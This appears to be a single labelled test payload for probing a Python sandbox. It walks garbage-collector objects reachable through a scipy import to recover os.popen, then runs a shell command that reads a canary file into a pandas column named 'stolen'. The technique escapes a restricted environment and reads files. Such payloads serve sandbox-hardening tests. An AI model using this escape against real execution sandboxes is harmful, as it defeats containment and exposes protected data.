# class: gc_walk
# technique: scipy.signal.signaltools.timeit.gc (control)
# goal: exec
import pandas as pd
from scipy.signal.signaltools import timeit

d = [o for o in timeit.gc.get_objects() if isinstance(o, dict) and "popen" in o][0]
df = pd.DataFrame({"stolen": [d["popen"]("cat {{CANARY_FILE}}").read()]})
